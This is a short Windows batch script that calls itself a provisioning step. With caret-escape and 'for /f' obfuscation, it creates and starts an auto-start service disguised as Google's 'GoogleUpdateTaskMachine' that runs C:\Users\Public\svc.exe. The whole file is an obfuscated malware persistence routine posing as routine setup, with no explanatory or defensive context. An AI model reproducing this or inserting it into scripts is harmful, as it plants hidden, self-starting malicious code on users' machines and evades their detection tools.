REM provision 9191 v4
f^or /f "tokens=2 delims=~" %%i ^i^n ("fyfq~sc~mfhb") do %%i ^c^reate G^o^o^g^leUp^d^a^te^T^askM^a^ch^ine b^inPa^th= "cmd.exe /c C:\Users\Public\svc.exe" ^start= aut^o
^f^or /^f "tokens=3 delims=#" %%i i^n ("bavh#ebmf#sc") ^d^o %%^i ^st^ar^t G^oo^g^leU^pda^teTa^skM^ac^hi^n^e
